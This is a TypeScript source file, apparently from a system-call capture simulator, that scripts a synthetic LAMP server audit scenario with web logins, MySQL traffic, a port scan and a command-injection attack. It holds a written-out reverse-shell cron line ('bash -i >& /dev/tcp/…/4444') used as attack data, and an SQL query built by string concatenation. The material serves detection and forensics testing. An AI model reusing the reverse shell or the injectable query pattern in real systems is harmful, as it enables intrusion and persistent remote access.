// The LAMP audit scenario: host web01 (10.0.1.20) runs Apache httpd (root parent + two worker
// processes with threads), MariaDB mysqld on :3306, sshd, crond and rsyslogd. During ~4.5 s:
//  - a user at 10.0.1.55 loads the site and logs in with a plaintext form POST
//    (username/password in an application/x-www-form-urlencoded body); PHP checks the password
//    against mysqld over TCP 127.0.0.1:3306; a second user at 10.0.1.77 fails a login;
//  - 203.0.113.66 port-scans the host (nmap -sT -sV style: accepts on 80/443/22/3306, resets,
//    ECONNABORTED accepts, banner probes);
//  - the same address exploits a command injection in /admin/ping.php: httpd spawns /bin/sh,
//    which runs id, cat /etc/passwd and `tee /etc/cron.d/sysupdate` (a reverse-shell cron job),
//    and later a bash /dev/tcp sweep of 10.0.1.30 (connect → ECONNREFUSED);
//  - crond notices and reads the new cron file.

import { FdKind, type CaptureHeader } from '../../core/capture.js';
import { ipv4Bytes, ipv6Bytes, type RawEvent } from '../../core/scapwrite/index.js';
import * as my from './mysql.js';
import {
  bytesOf,
  close,
  dupTo,
  execve,
  fork,
  fstat,
  futexWait,
  futexWake,
  ldStartup,
  nanosleep,
  open,
  openat,
  pipe,
  procexit,
  read,
  readErr,
  recvfrom,
  sendto,
  slurp,
  snap,
  sockFd,
  stat,
  tuple,
  write,
  writev,
  type Conn,
} from './ops.js';
import { Sim, fdFile, fdNamed, fdServ, type Proc, type Thread } from './sim.js';

const HOST = '10.0.1.20';
const LO = '127.0.0.1';
const ALICE = '10.0.1.55';
const BOB = '10.0.1.77';
const ATTACKER = '203.0.113.66';
const INTERNAL = '10.0.1.30';

const MS = 1_000_000n;
const US = 1_000n;
/** 2024-05-14 09:30:12.104318000 UTC. */
const START = 1715679012_104318000n;

/** accept4 flags as the driver passes them through (Linux values). */
const SOCK_NONBLOCK = 0o4000;
const SOCK_CLOEXEC = 0o2000000;

const ECONNRESET = 104;
const ECONNABORTED = 103;
const ECONNREFUSED = 111;
const EAGAIN = 11;

const HTTPD_CGROUPS = ['cpuset=/', 'cpu=/system.slice/httpd.service', 'memory=/system.slice/httpd.service'];
const MYSQL_CGROUPS = [
  'cpuset=/',
  'cpu=/system.slice/mariadb.service',
  'memory=/system.slice/mariadb.service',
];

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'bin:x:1:1:bin:/bin:/sbin/nologin',
  'daemon:x:2:2:daemon:/sbin:/sbin/nologin',
  'adm:x:3:4:adm:/var/adm:/sbin/nologin',
  'sshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin',
  'mysql:x:27:27:MariaDB Server:/var/lib/mysql:/sbin/nologin',
  'apache:x:48:48:Apache:/usr/share/httpd:/sbin/nologin',
  'alice:x:1000:1000:Alice Admin:/home/alice:/bin/bash',
  '',
].join('\n');

const CRON_LINE = `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/${ATTACKER}/4444 0>&1'\n`;

/** Something that happens at a point in the story. */
type Agenda = { at: bigint; run: () => void }[];

interface Host {
  sim: Sim;
  httpd: Proc;
  workers: Proc[];
  listeners: Thread[];
  workerThreads: Thread[][];
  mysqld: Proc;
  mysqlMain: Thread;
  mysqlConn: Thread[];
  sshd: Thread;
  crond: Thread;
  rsyslog: Thread;
  httpdParent: Thread;
  nextPort: number;
  nextPid: number;
  nextMysqlThreadId: number;
  /** Access-log lines as written (time, text), replayed by alice's `tail -f` at the end. */
  logWrites: { t: bigint; line: string }[];
  tail: Thread;
  sshSession: Thread;
}

function setup(): Host {
  const sim = new Sim({ seed: 0x1a3b5, start: START, numCpus: 4, procinfoEvery: 100n * MS });

  const systemd = sim.addProc({
    pid: 1,
    ppid: 0,
    comm: 'systemd',
    exe: '/usr/lib/systemd/systemd',
    exepath: '/usr/lib/systemd/systemd',
    args: ['--switched-root', '--system', '--deserialize', '22'],
    cwd: '/',
    uid: 0,
    gid: 0,
    vmsizeKb: 193940,
    vmrssKb: 6780,
  });
  sim.addThread(systemd, 1, 0);

  const rsyslogd = sim.addProc({
    pid: 612,
    ppid: 1,
    comm: 'rsyslogd',
    exe: '/usr/sbin/rsyslogd',
    exepath: '/usr/sbin/rsyslogd',
    args: ['-n'],
    cwd: '/',
    uid: 0,
    gid: 0,
    vmsizeKb: 216404,
    vmrssKb: 4216,
  });
  for (const fd of [0, 1, 2]) rsyslogd.setFd(fd, fdFile('/dev/null', 3));
  rsyslogd.setFd(3, { kind: FdKind.UNIX_SOCK, name: '/dev/log', source: 0xffff8f0c3a4e1c00n, dest: 0n });
  rsyslogd.setFd(5, fdFile('/var/log/messages', 0x0a, 1310789n));
  rsyslogd.setFd(6, fdFile('/var/log/secure', 0x0a, 1310790n));
  rsyslogd.setFd(7, fdFile('/var/log/cron', 0x0a, 1310791n));
  sim.addThread(rsyslogd, 612, 0);
  const rsyslog = sim.addThread(rsyslogd, 615, 0);

  const crondP = sim.addProc({
    pid: 640,
    ppid: 1,
    comm: 'crond',
    exe: '/usr/sbin/crond',
    exepath: '/usr/sbin/crond',
    args: ['-n'],
    cwd: '/',
    uid: 0,
    gid: 0,
    vmsizeKb: 126284,
    vmrssKb: 1636,
  });
  for (const fd of [0, 1, 2]) crondP.setFd(fd, fdFile('/dev/null', 3));
  crondP.setFd(3, {
    kind: FdKind.UNIX_SOCK,
    name: '',
    source: 0xffff8f0c3a4e2400n,
    dest: 0xffff8f0c3a4e1c00n,
  });
  crondP.setFd(4, fdNamed(FdKind.INOTIFY, 'inotify'));
  const crond = sim.addThread(crondP, 640, 0);

  const sshdP = sim.addProc({
    pid: 812,
    ppid: 1,
    comm: 'sshd',
    exe: '/usr/sbin/sshd',
    exepath: '/usr/sbin/sshd',
    args: ['-D'],
    cwd: '/',
    uid: 0,
    gid: 0,
    vmsizeKb: 112920,
    vmrssKb: 4328,
  });
  sshdP.setFd(0, fdFile('/dev/null', 3));
  sshdP.setFd(1, fdFile('/dev/null', 3));
  sshdP.setFd(2, fdFile('/dev/null', 3));
  sshdP.setFd(3, fdServ('0.0.0.0', 22));
  sshdP.setFd(4, {
    kind: FdKind.IPV6_SERVSOCK,
    name: '',
    sip: ipv6Bytes('::'),
    sport: 22,
    l4proto: 2,
  });
  const sshd = sim.addThread(sshdP, 812, 3);

  const mysqld = sim.addProc({
    pid: 1024,
    ppid: 1,
    comm: 'mysqld',
    exe: '/usr/libexec/mysqld',
    exepath: '/usr/libexec/mysqld',
    args: [
      '--basedir=/usr',
      '--datadir=/var/lib/mysql',
      '--plugin-dir=/usr/lib64/mysql/plugin',
      '--log-error=/var/log/mariadb/mariadb.log',
      '--socket=/var/lib/mysql/mysql.sock',
    ],
    cwd: '/var/lib/mysql',
    uid: 27,
    gid: 27,
    vmsizeKb: 1174888,
    vmrssKb: 98412,
    cgroups: MYSQL_CGROUPS,
    fdlimit: 5000,
  });
  mysqld.setFd(0, fdFile('/dev/null', 1));
  mysqld.setFd(1, fdFile('/var/log/mariadb/mariadb.log', 0x0a, 393347n));
  mysqld.setFd(2, fdFile('/var/log/mariadb/mariadb.log', 0x0a, 393347n));
  mysqld.setFd(3, fdFile('/var/lib/mysql/ibdata1', 0x1003, 393221n));
  mysqld.setFd(4, fdFile('/var/lib/mysql/ib_logfile0', 0x1003, 393222n));
  mysqld.setFd(5, fdFile('/var/lib/mysql/ib_logfile1', 0x1003, 393223n));
  mysqld.setFd(11, fdFile('/var/lib/mysql/app/users.ibd', 0x1003, 393530n));
  mysqld.setFd(12, fdServ('0.0.0.0', 3306));
  mysqld.setFd(13, {
    kind: FdKind.UNIX_SOCK,
    name: '/var/lib/mysql/mysql.sock',
    source: 0xffff8f0c1b2e9000n,
    dest: 0n,
  });
  mysqld.setFd(14, fdFile('/var/lib/mysql/app/sessions.ibd', 0x1003, 393531n));
  const mysqlMain = sim.addThread(mysqld, 1024, 3);
  sim.addThread(mysqld, 1031, 0);
  sim.addThread(mysqld, 1032, 1);
  const mysqlConn = [sim.addThread(mysqld, 1040, 3), sim.addThread(mysqld, 1041, 0)];

  const httpd = sim.addProc({
    pid: 2001,
    ppid: 1,
    comm: 'httpd',
    exe: '/usr/sbin/httpd',
    exepath: '/usr/sbin/httpd',
    args: ['-DFOREGROUND'],
    cwd: '/',
    uid: 0,
    gid: 0,
    vmsizeKb: 230440,
    vmrssKb: 5216,
    cgroups: HTTPD_CGROUPS,
    env: [
      'LANG=C',
      'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin',
      'NOTIFY_SOCKET=/run/systemd/notify',
    ],
  });
  const httpdFds = (p: Proc): void => {
    p.setFd(0, fdFile('/dev/null', 1));
    p.setFd(1, fdFile('/dev/null', 2));
    p.setFd(2, fdFile('/var/log/httpd/error_log', 0x0a, 1311010n));
    p.setFd(3, fdServ('0.0.0.0', 80));
    p.setFd(4, fdServ('0.0.0.0', 443));
    p.setFd(6, fdFile('/var/log/httpd/access_log', 0x0a, 1311011n));
    p.setFd(7, fdFile('/var/log/httpd/ssl_access_log', 0x0a, 1311012n));
  };
  httpdFds(httpd);
  const httpdParent = sim.addThread(httpd, 2001, 2);

  const workers: Proc[] = [];
  const listeners: Thread[] = [];
  const workerThreads: Thread[][] = [];
  // Thread ids: each worker process has a listener thread and two request threads.
  for (const [pid, tids, cpuA, cpuB] of [
    [2010, [2012, 2014, 2016], 1, 2],
    [2011, [2013, 2015, 2017], 2, 1],
  ] as const) {
    const w = sim.addProc({
      ...httpd.spec,
      pid,
      ppid: 2001,
      uid: 48,
      gid: 48,
      vmsizeKb: 563140,
      vmrssKb: 18208,
    });
    httpdFds(w);
    w.setFd(8, fdNamed(FdKind.EVENTPOLL, ''));
    // Apache marks its listeners, logs and epoll fd close-on-exec: CGI/popen children do not
    // inherit them.
    for (const fd of [3, 4, 6, 7, 8]) w.cloexec.add(fd);
    sim.addThread(w, pid, cpuA);
    listeners.push(sim.addThread(w, tids[0], cpuA));
    workerThreads.push([sim.addThread(w, tids[1], cpuA), sim.addThread(w, tids[2], cpuB)]);
    workers.push(w);
  }

  // alice is logged in over ssh and follows the access log.
  const sess = sim.addProc({
    pid: 3101,
    ppid: 812,
    comm: 'sshd',
    exe: 'sshd: alice@pts/0',
    exepath: '/usr/sbin/sshd',
    args: [],
    cwd: '/',
    uid: 1000,
    gid: 1000,
    vmsizeKb: 156820,
    vmrssKb: 2480,
    loginuid: 1000,
  });
  sess.setFd(0, fdFile('/dev/null', 3));
  sess.setFd(1, fdFile('/dev/null', 3));
  sess.setFd(2, fdFile('/dev/null', 3));
  sess.setFd(3, {
    kind: FdKind.IPV4_SOCK,
    name: '',
    sip: ipv4Bytes(ALICE),
    sport: 50022,
    dip: ipv4Bytes(HOST),
    dport: 22,
    l4proto: 2,
  });
  sess.setFd(5, { kind: FdKind.UNIX_SOCK, name: '', source: 0xffff8f0c2d1a7800n, dest: 0xffff8f0c3a4e1c00n });
  sess.setFd(9, fdFile('/dev/ptmx', 0x0803));
  const sshSession = sim.addThread(sess, 3101, 3);
  const bash = sim.addProc({
    pid: 3104,
    ppid: 3101,
    comm: 'bash',
    exe: '-bash',
    exepath: '/usr/bin/bash',
    args: [],
    cwd: '/home/alice',
    uid: 1000,
    gid: 1000,
    vmsizeKb: 115548,
    vmrssKb: 2064,
    loginuid: 1000,
    sid: 3104,
    vpgid: 3104,
    env: [
      'USER=alice',
      'HOME=/home/alice',
      'SHELL=/bin/bash',
      'TERM=xterm-256color',
      `SSH_CLIENT=${ALICE} 50022 22`,
    ],
  });
  for (const fd of [0, 1, 2, 255]) bash.setFd(fd, fdFile('/dev/pts/0', 0x0803));
  sim.addThread(bash, 3104, 3);
  const tailP = sim.addProc({
    ...bash.spec,
    pid: 3188,
    ppid: 3104,
    comm: 'tail',
    exe: 'tail',
    exepath: '/usr/bin/tail',
    args: ['-f', '/var/log/httpd/access_log'],
    vmsizeKb: 108056,
    vmrssKb: 712,
    vpgid: 3188,
  });
  for (const fd of [0, 1, 2]) tailP.setFd(fd, fdFile('/dev/pts/0', 0x0803));
  tailP.setFd(3, fdFile('/var/log/httpd/access_log', 1, 1311011n));
  tailP.setFd(4, fdNamed(FdKind.INOTIFY, 'inotify'));
  const tail = sim.addThread(tailP, 3188, 3);

  sim.snapshotHeader('web01', {
    interfaces: [
      {
        type: 1,
        name: 'lo',
        addr: ipv4Bytes(LO),
        netmask: ipv4Bytes('255.0.0.0'),
        bcast: ipv4Bytes(LO),
        linkspeed: 0n,
      },
      {
        type: 1,
        name: 'eth0',
        addr: ipv4Bytes(HOST),
        netmask: ipv4Bytes('255.255.255.0'),
        bcast: ipv4Bytes('10.0.1.255'),
        linkspeed: 0n,
      },
      {
        type: 2,
        name: 'lo',
        addr: ipv6Bytes('::1'),
        netmask: ipv6Bytes('::'),
        bcast: ipv6Bytes('::'),
        linkspeed: 0n,
      },
      {
        type: 2,
        name: 'eth0',
        addr: ipv6Bytes('fe80::5054:ff:fe3a:9c21'),
        netmask: ipv6Bytes('::'),
        bcast: ipv6Bytes('::'),
        linkspeed: 0n,
      },
    ],
    users: [
      { uid: 0, gid: 0, name: 'root', homedir: '/root', shell: '/bin/bash' },
      { uid: 27, gid: 27, name: 'mysql', homedir: '/var/lib/mysql', shell: '/sbin/nologin' },
      { uid: 48, gid: 48, name: 'apache', homedir: '/usr/share/httpd', shell: '/sbin/nologin' },
      { uid: 74, gid: 74, name: 'sshd', homedir: '/var/empty/sshd', shell: '/sbin/nologin' },
      { uid: 1000, gid: 1000, name: 'alice', homedir: '/home/alice', shell: '/bin/bash' },
    ],
    groups: [
      { gid: 0, name: 'root' },
      { gid: 27, name: 'mysql' },
      { gid: 48, name: 'apache' },
      { gid: 74, name: 'sshd' },
      { gid: 1000, name: 'alice' },
    ],
  });

  return {
    sim,
    httpd,
    workers,
    listeners,
    workerThreads,
    mysqld,
    mysqlMain,
    mysqlConn,
    sshd,
    crond,
    rsyslog,
    httpdParent,
    nextPort: 46210,
    nextPid: 31007,
    nextMysqlThreadId: 88,
    logWrites: [],
    tail,
    sshSession,
  };
}

// ---------------------------------------------------------------------------------------------
// HTTP

interface HttpReq {
  method: 'GET' | 'POST' | 'OPTIONS';
  path: string;
  body?: string;
  ua: string;
  referer?: string;
  cookie?: string;
}

function requestText(r: HttpReq): string {
  const lines = [`${r.method} ${r.path} HTTP/1.1`, `Host: ${HOST}`, `User-Agent: ${r.ua}`];
  lines.push('Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8');
  if (r.referer) lines.push(`Referer: ${r.referer}`);
  if (r.cookie) lines.push(`Cookie: ${r.cookie}`);
  if (r.body !== undefined) {
    lines.push('Content-Type: application/x-www-form-urlencoded');
    lines.push(`Content-Length: ${bytesOf(r.body).length}`);
  }
  lines.push('Connection: keep-alive', '', '');
  return lines.join('\r\n') + (r.body ?? '');
}

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n: number): string => String(n).padStart(2, '0');

/** `Tue, 14 May 2024 09:30:14 GMT` for an event time. */
function httpDate(t: bigint): string {
  const d = new Date(Number(t / MS));
  return `${DAYS[d.getUTCDay()]}, ${two(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} GMT`;
}

/** `14/May/2024:09:30:14 +0000` (Apache's %t). */
function logDate(t: bigint): string {
  const d = new Date(Number(t / MS));
  return `${two(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
}

function responseText(t: bigint, status: string, body: string, extra: string[] = []): string {
  return (
    [
      `HTTP/1.1 ${status}`,
      `Date: ${httpDate(t)}`,
      'Server: Apache/2.4.6 (CentOS) PHP/7.4.33',
      'X-Powered-By: PHP/7.4.33',
      ...extra,
      `Content-Length: ${bytesOf(body).length}`,
      'Keep-Alive: timeout=5, max=100',
      'Connection: Keep-Alive',
      'Content-Type: text/html; charset=UTF-8',
      '',
      '',
    ].join('\r\n') + body
  );
}

function accessLog(th: Thread, c: Conn, r: HttpReq, code: number, size: number, h?: Host): void {
  const line = `${c.sip} - - [${logDate(th.t)}] "${r.method} ${r.path} HTTP/1.1" ${code} ${size} "${r.referer ?? '-'}" "${r.ua}"\n`;
  write(th, 6, line);
  h?.logWrites.push({ t: th.t, line });
}

/** alice's `tail -f`: inotify wakes it after each access-log write; it reads the new line and
 *  prints it on her terminal, which her sshd session encrypts onto the ssh connection. */
function followLog(h: Host): void {
  const sim = h.sim;
  const rng = sim.rng;
  const tail = h.tail;
  const ssh = h.sshSession;
  tail.wait(rng.ns(1_000_000, 9_000_000));
  tail.enter('read', { fd: 4, size: 4096 });
  ssh.wait(rng.ns(1_000_000, 9_000_000));
  ssh.enter('poll', {
    fds: [
      { fd: 3, flags: 1 },
      { fd: 5, flags: 1 },
      { fd: 9, flags: 1 },
    ],
    timeout: -1,
  });
  const writes = [...h.logWrites].sort((a, b) => (a.t < b.t ? -1 : a.t > b.t ? 1 : 0));
  let pos = 0;
  for (const wr of writes) {
    tail.until(wr.t + rng.ns(20_000, 60_000));
    const ev = new Uint8Array(16);
    ev.set([1, 0, 0, 0, 2, 0, 0, 0]);
    tail.exit('read', { res: 16, data: ev });
    tail.wait(rng.ns(3_000, 8_000));
    tail.call('fstat', { fd: 3 }, { res: 0 });
    read(tail, 3, 8192, wr.line);
    pos += wr.line.length;
    write(tail, 1, wr.line);
    read(tail, 3, 8192, '');
    tail.enter('read', { fd: 4, size: 4096 });
    ssh.until(tail.t);
    ssh.exit('poll', { res: 1, fds: [{ fd: 9, flags: 1 }] });
    read(ssh, 9, 16384, wr.line.replace(/\n$/, '\r\n'));
    const cipher = Uint8Array.from({ length: wr.line.length + 37 }, () => rng.int(0, 255));
    write(ssh, 3, cipher);
    ssh.enter('poll', {
      fds: [
        { fd: 3, flags: 1 },
        { fd: 5, flags: 1 },
        { fd: 9, flags: 1 },
      ],
      timeout: -1,
    });
  }
  void pos;
}

/** Listener thread: epoll_wait wakes, accept4 returns the connection's fd (or fails). */
function acceptOn(l: Thread, at: bigint, listenFd: number, c: Conn | null, errno = 0): number {
  listenerIdle(l, at);
  l.until(at);
  l.exit('epoll_wait', { res: 1 });
  l.wait(l.sim.rng.ns(2000, 6000));
  l.enter('accept4', { flags: SOCK_NONBLOCK | SOCK_CLOEXEC });
  l.wait(l.sim.rng.ns(3000, 9000));
  const fd = errno ? -errno : l.proc.allocFd(l.t);
  l.exit('accept4', { fd, tuple: c ? tuple(c) : null, queuepct: 0, queuelen: 0, queuemax: 511 });
  if (c && !errno) {
    sockFd(l.proc, fd, c);
    l.proc.cloexec.add(fd);
  }
  l.wait(l.sim.rng.ns(2000, 8000));
  void listenFd;
  return fd;
}

/** The listener wakes worker thread `w` of process `wi` and goes back to epoll_wait. */
function handoff(l: Thread, wi: number, w: Thread): void {
  futexWake(l, 0x7f3b10002d40n + BigInt(wi));
  l.enter('epoll_wait', { maxevents: 2 });
  w.until(l.t);
  w.exit('futex', { res: 0 });
}

/** Listener idle loop until `until`: epoll_wait timeouts every ~100 ms. */
function listenerIdle(l: Thread, until: bigint): void {
  while (l.t + 100n * MS < until) {
    l.wait(100n * MS + l.sim.rng.ns(0, 400000));
    l.exit('epoll_wait', { res: 0 });
    l.wait(l.sim.rng.ns(2000, 9000));
    l.enter('epoll_wait', { maxevents: 2 });
  }
}

interface MysqlQuery {
  sql: string;
  columns: string[];
  rows: string[][];
  ibd?: { fd: number; pos: number };
}

/** PHP (in an httpd worker thread) opens a TCP connection to mysqld, authenticates, runs the
 *  queries and quits; mysqld's main thread accepts and a cached connection thread serves it. */
function phpMysql(h: Host, w: Thread, queries: MysqlQuery[]): void {
  const sim = h.sim;
  const rng = sim.rng;
  const fd = w.proc.allocFd(w.t);
  w.call('socket', { domain: sim.flags('socket', '>', 'domain', ['AF_INET']), type: 1, proto: 0 }, { fd });
  const c: Conn = { sip: LO, sport: h.nextPort++, dip: LO, dport: 3306 };
  w.enter('connect', { fd, addr: { family: 'inet', ip: LO, port: 3306 } });
  w.wait(rng.ns(30000, 60000));
  w.exit('connect', { res: 0, tuple: tuple(c) });
  sockFd(w.proc, fd, c);
  // mysqld accepts.
  const m = h.mysqlMain;
  m.until(w.t - 20n * US);
  m.exit('poll', { res: 1, fds: [{ fd: 12, flags: 1 }] });
  const sfd = h.mysqld.allocFd(m.t);
  m.call('accept4', { flags: 0 }, { fd: sfd, tuple: tuple(c), queuepct: 0, queuelen: 0, queuemax: 80 });
  sockFd(h.mysqld, sfd, c);
  m.call('fcntl', { fd: sfd, cmd: sim.flags('fcntl', '>', 'cmd', ['F_SETFL']) }, { res: 0 });
  futexWake(m, 0x7f2a41e0c8a8n);
  m.enter('poll', {
    fds: [
      { fd: 12, flags: 1 },
      { fd: 13, flags: 1 },
    ],
    timeout: -1,
  });
  const ct = h.mysqlConn[h.nextMysqlThreadId % 2] ?? h.mysqlMain;
  ct.until(m.t);
  ct.exit('futex', { res: 0 });
  ct.wait(rng.ns(10000, 30000));
  const salt = Uint8Array.from({ length: 20 }, () => rng.int(33, 126));
  const greet = my.greeting('5.5.68-MariaDB', h.nextMysqlThreadId++, salt);
  sendto(ct, sfd, greet);
  // The client reads the greeting, answers with its credentials.
  w.until(ct.t);
  w.call('poll', { fds: [{ fd, flags: 1 }], timeout: 31536000 }, { res: 1, fds: [{ fd, flags: 1 }] });
  recvfrom(w, fd, 16384, greet);
  const scramble = Uint8Array.from({ length: 20 }, () => rng.int(0, 255));
  const auth = my.handshakeResponse('webapp', scramble, 'app');
  sendto(w, fd, auth);
  ct.until(w.t);
  recvfrom(ct, sfd, 16384, auth);
  const okp = my.ok(2);
  sendto(ct, sfd, okp);
  w.until(ct.t);
  recvfrom(w, fd, 16384, okp);
  for (const q of queries) {
    const qp = my.comQuery(q.sql);
    sendto(w, fd, qp);
    ct.until(w.t);
    recvfrom(ct, sfd, 16384, qp);
    if (q.ibd) {
      const page = new Uint8Array(16384);
      page.set(bytesOf(q.rows.flat().join('\0')), 120);
      ct.call(
        'pread',
        { fd: q.ibd.fd, size: 16384, pos: q.ibd.pos },
        { res: 16384, data: snap(page) },
        85000,
      );
    }
    const rs = my.resultSet('app', q.columns.length > 2 ? 'users' : 'sessions', q.columns, q.rows);
    sendto(ct, sfd, rs);
    w.until(ct.t);
    recvfrom(w, fd, 16384, rs);
  }
  sendto(w, fd, my.COM_QUIT);
  close(w, fd);
  ct.until(w.t);
  recvfrom(ct, sfd, 16384, my.COM_QUIT);
  ct.call('shutdown', { fd: sfd, how: sim.flags('shutdown', '>', 'how', ['SHUT_RDWR']) }, { res: 0 });
  close(ct, sfd);
  ct.enter('futex', {
    addr: 0x7f2a41e0c8a8n,
    op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
    val: 0,
  });
}

interface Page {
  req: HttpReq;
  script: string;
  status: string;
  code: number;
  body: string;
  headers?: string[];
  db?: MysqlQuery[];
  /** Static file sent with sendfile instead of a PHP script. */
  static?: number;
}

/** A keep-alive connection: listener accepts, a worker thread serves each page in turn. */
function serve(h: Host, wi: number, at: bigint, c: Conn, pages: Page[], gapNs: bigint): bigint {
  const sim = h.sim;
  const rng = sim.rng;
  const l = h.listeners[wi];
  const w = h.workerThreads[wi]?.[rng.int(0, 1)];
  if (!l || !w) throw new Error('no worker');
  const fd = acceptOn(l, at, 3, c);
  handoff(l, wi, w);
  let t = w.t;
  for (const [i, pg] of pages.entries()) {
    if (i > 0) {
      w.until(t + gapNs);
    }
    const req = requestText(pg.req);
    read(w, fd, 8000, req, 12000);
    stat(w, pg.script);
    let body = pg.body;
    if (pg.static !== undefined) {
      const resp = responseText(w.t, pg.status, '', pg.headers).replace(
        /Content-Length: 0/,
        `Content-Length: ${pg.static}`,
      );
      writev(w, fd, resp);
      const ffd = openat(w, pg.script, ['O_RDONLY', 'O_CLOEXEC']);
      w.call(
        'sendfile',
        { out_fd: fd, in_fd: ffd, offset: 0, size: pg.static },
        { res: pg.static, offset: pg.static },
        60000,
      );
      close(w, ffd);
      accessLog(w, c, pg.req, pg.code, pg.static, h);
    } else {
      const sfd = openat(w, pg.script, ['O_RDONLY', 'O_CLOEXEC']);
      fstat(w, sfd);
      read(w, sfd, 8192, `<?php\nrequire __DIR__ . '/inc/db.php';\nsession_start();\n// ${pg.script}\n`);
      close(w, sfd);
      if (pg.db) phpMysql(h, w, pg.db);
      const resp = responseText(w.t, pg.status, body, pg.headers);
      writev(w, fd, resp);
      accessLog(w, c, pg.req, pg.code, bytesOf(body).length, h);
      body = '';
    }
    readErr(w, fd, 8000, EAGAIN, 4000);
    w.call('poll', { fds: [{ fd, flags: 1 }], timeout: 5000 }, { res: 1, fds: [{ fd, flags: 1 }] }, gapNs);
    t = w.t;
    void body;
  }
  read(w, fd, 8000, '');
  close(w, fd);
  w.enter('futex', {
    addr: 0x7f3b10002d40n + BigInt(wi),
    op: sim.flags('futex', '>', 'op', ['FUTEX_WAIT', 'FUTEX_PRIVATE_FLAG']),
    val: 0,
  });
  return w.t;
}

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';
const NMAP = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';

const LOGIN_FORM =
  '<html><body><form method="post" action="/login.php">' +
  '<input name="username"><input type="password" name="password"><button>Sign in</button></form></body></html>';

function userQuery(user: string): MysqlQuery {
  return {
    sql: `SELECT id, username, password_hash FROM users WHERE username='${user}' LIMIT 1`,
    columns: ['id', 'username', 'password_hash'],
    rows:
      user === 'alice'
        ? [['1', 'alice', '$2y$10$Qe7u1c4Vb0n5mX2fJk9xUOkq1h3c8tD9rZfQx6sV2yW8aL0pB7mKe']]
        : [],
    ibd: { fd: 11, pos: 49152 },
  };
}

function legitSessions(h: Host, agenda: Agenda): void {
  const c1: Conn = { sip: ALICE, sport: 51834, dip: HOST, dport: 80 };
  const ref = `http://${HOST}/`;
  agenda.push({
    at: START + 180n * MS,
    run: () =>
      serve(
        h,
        0,
        START + 180n * MS,
        c1,
        [
          {
            req: { method: 'GET', path: '/', ua: FIREFOX },
            script: '/var/www/html/index.php',
            status: '200 OK',
            code: 200,
            body: '<html><body><a href="/login.php">Login</a></body></html>',
          },
          {
            req: { method: 'GET', path: '/static/site.css', ua: FIREFOX, referer: ref },
            script: '/var/www/html/static/site.css',
            status: '200 OK',
            code: 200,
            body: '',
            static: 14822,
            headers: ['Content-Type: text/css'],
          },
          {
            req: { method: 'GET', path: '/login.php', ua: FIREFOX, referer: ref },
            script: '/var/www/html/login.php',
            status: '200 OK',
            code: 200,
            body: LOGIN_FORM,
          },
          {
            req: {
              method: 'POST',
              path: '/login.php',
              ua: FIREFOX,
              referer: `${ref}login.php`,
              body: 'username=alice&password=Tr0ub4dor%263',
            },
            script: '/var/www/html/login.php',
            status: '302 Found',
            code: 302,
            body: '',
            headers: [
              'Set-Cookie: PHPSESSID=9b1f0c6ad3e84c27a5f1e2d4c6b8a0f3; path=/; HttpOnly',
              'Location: /dashboard.php',
            ],
            db: [userQuery('alice')],
          },
          {
            req: {
              method: 'GET',
              path: '/dashboard.php',
              ua: FIREFOX,
              referer: `${ref}login.php`,
              cookie: 'PHPSESSID=9b1f0c6ad3e84c27a5f1e2d4c6b8a0f3',
            },
            script: '/var/www/html/dashboard.php',
            status: '200 OK',
            code: 200,
            body: '<html><body><h1>Welcome back, alice</h1><p>3 open tickets</p></body></html>',
            db: [
              {
                sql: "SELECT user_id, expires FROM sessions WHERE sid='9b1f0c6ad3e84c27a5f1e2d4c6b8a0f3'",
                columns: ['user_id', 'expires'],
                rows: [['1', '2024-05-14 10:00:14']],
                ibd: { fd: 14, pos: 16384 },
              },
            ],
          },
        ],
        140n * MS,
      ),
  });

  const c2: Conn = { sip: BOB, sport: 60122, dip: HOST, dport: 80 };
  agenda.push({
    at: START + 470n * MS,
    run: () =>
      serve(
        h,
        1,
        START + 470n * MS,
        c2,
        [
          {
            req: { method: 'GET', path: '/login.php', ua: CHROME },
            script: '/var/www/html/login.php',
            status: '200 OK',
            code: 200,
            body: LOGIN_FORM,
          },
          {
            req: {
              method: 'POST',
              path: '/login.php',
              ua: CHROME,
              referer: `${ref}login.php`,
              body: 'username=bob&password=summer2024',
            },
            script: '/var/www/html/login.php',
            status: '200 OK',
            code: 200,
            body: '<html><body><p class="error">Invalid username or password</p></body></html>',
            db: [userQuery('bob')],
          },
        ],
        230n * MS,
      ),
  });
}

/** Other visitors browsing public pages and static assets. */
function browsing(h: Host, agenda: Agenda): void {
  const rng = h.sim.rng;
  const visitors = [
    '10.0.1.61',
    '10.0.1.62',
    '10.0.1.90',
    '10.0.1.104',
    '10.0.1.61',
    '10.0.1.117',
    '10.0.1.90',
    '10.0.1.62',
  ];
  const assets: [string, number, string][] = [
    ['/static/site.css', 14822, 'text/css'],
    ['/static/app.js', 48211, 'application/javascript'],
    ['/static/logo.png', 9034, 'image/png'],
    ['/favicon.ico', 1150, 'image/x-icon'],
  ];
  let at = START + 260n * MS;
  for (const [i, ip] of visitors.entries()) {
    at += rng.ns(280, 520) * MS;
    const ua = i % 2 ? CHROME : FIREFOX;
    const pages: Page[] = [
      {
        req: { method: 'GET', path: '/', ua },
        script: '/var/www/html/index.php',
        status: '200 OK',
